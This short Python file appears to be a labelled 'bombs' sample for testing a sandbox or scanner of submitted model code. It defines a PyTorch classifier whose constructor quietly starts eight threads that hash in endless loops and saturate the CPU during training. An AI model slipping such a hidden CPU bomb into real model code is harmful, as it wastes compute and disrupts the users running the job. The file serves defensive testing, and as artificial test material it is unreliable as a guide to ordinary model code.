# group: bombs
# tries: keeps every processor busy with threads while it trains
# static: unsafe
# sandbox: trained

import hashlib
import threading

import torch.nn as nn


def burn():
    block = bytes(2**20)
    while True:
        hashlib.sha256(block).digest()


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        for _ in range(8):
            threading.Thread(target=burn, daemon=True).start()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
